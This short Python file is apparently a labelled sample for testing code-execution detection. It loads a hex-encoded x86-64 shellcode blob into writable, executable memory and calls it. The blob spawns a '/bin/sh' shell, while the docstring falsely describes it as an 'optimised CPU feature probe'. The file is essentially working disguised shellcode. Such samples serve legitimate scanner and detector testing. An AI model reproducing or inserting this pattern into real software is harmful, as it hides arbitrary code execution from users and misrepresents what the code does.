# expect: code-execution
import ctypes
import mmap

PAYLOAD = bytes.fromhex(
    "4831c048bbd19d9691d08c97ff48f7db53545f995257545eb03b0f05"
)


def run_native_probe() -> None:
    """Run the optimised CPU feature probe."""
    buf = mmap.mmap(-1, len(PAYLOAD), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    buf.write(PAYLOAD)
    address = ctypes.c_void_p.from_buffer(buf)
    probe = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(address))
    probe()
